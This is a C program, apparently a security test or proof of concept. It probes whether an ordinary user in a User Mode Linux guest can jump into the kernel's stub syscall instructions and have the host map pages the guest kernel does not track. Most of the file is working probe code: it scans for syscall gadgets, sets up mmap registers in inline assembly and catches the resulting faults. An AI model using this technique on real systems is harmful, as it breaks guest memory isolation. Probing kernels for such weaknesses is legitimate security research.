/* What an ordinary user of a UML guest can do to the guest's kernel: the last pages of each process hold code of the
 * kernel's (the stub), which makes system calls on the host for it. This program makes each of them itself: does the host
 * map a page into it that the guest's kernel does not know? Then it can map any page of the guest's memory.
 * (arch/um/kernel/skas/stub.c in Linux says so of its seccomp mode.) */
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096UL
#define TOP 0x7ffffffff000UL /* of addresses of x86-64's processes */
#define PAGES 16

static char *const target = (char *)0x10000000;
static char scratch[1 << 16], stack[1 << 16];
static sigjmp_buf back;

static void caught(int number) { siglongjmp(back, number); }

/* Has the system call at ``code`` map a page. What follows it there goes on with ``scratch``, until it fails or for too long. */
static void map_by(const unsigned char *code) {
    if (sigsetjmp(back, 1)) return;
    alarm(2);
    register long flags __asm__("r10") = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED;
    register long none __asm__("r8") = -1;
    register long offset __asm__("r9") = 0;
    register const void *there __asm__("r11") = code;
    __asm__ volatile("mov %[scratch], %%rsp\n\tmov %%rsp, %%rbp\n\tmov %%rsp, %%rbx\n\tmov %%rsp, %%r12\n\t"
                     "mov %%rsp, %%r13\n\tmov %%rsp, %%r14\n\tmov %%rsp, %%r15\n\tjmp *%%r11"
                     :
                     : "a"((long)SYS_mmap), "D"(target), "S"(PAGE), "d"((long)PROT_READ), "r"(flags), "r"(none),
                       "r"(offset), "r"(there), [scratch] "c"(&scratch[sizeof scratch / 2])
                     : "memory");
    __builtin_unreachable();
}

static int can_read(const volatile char *place) {
    if (sigsetjmp(back, 1)) return 0;
    (void)*place;
    return 1;
}

static int maps_behind(const unsigned char *code) {
    int status = 0;
    pid_t child = fork(); /* what becomes of it otherwise does not matter */
    if (child == 0) {
        map_by(code);
        alarm(0);
        _exit(can_read(target) && msync(target, PAGE, MS_ASYNC) != 0);
    }
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

int main(void) {
    const int numbers[] = {SIGSEGV, SIGBUS, SIGILL, SIGTRAP, SIGALRM, SIGSYS};
    struct sigaction action = {.sa_handler = caught, .sa_flags = SA_ONSTACK | SA_NODEFER};
    stack_t own = {.ss_sp = stack, .ss_size = sizeof stack};
    int tried = 0, behind = 0;
    if (setgid(1000) || setuid(1000) || sigaltstack(&own, NULL)) return 1;
    for (unsigned n = 0; n < sizeof numbers / sizeof *numbers; n++) sigaction(numbers[n], &action, NULL);
    for (unsigned long page = TOP - PAGES * PAGE; page < TOP; page += PAGE) {
        if (!can_read((char *)page)) continue;
        for (unsigned long at = page; at < page + PAGE - 1; at++) {
            const unsigned char *code = (const unsigned char *)at;
            if (code[0] != 0x0f || code[1] != 0x05) continue;
            tried++;
            behind += maps_behind(code);
        }
    }
    printf("calls=%d behind=%d\n", tried, behind);
    return 0;
}
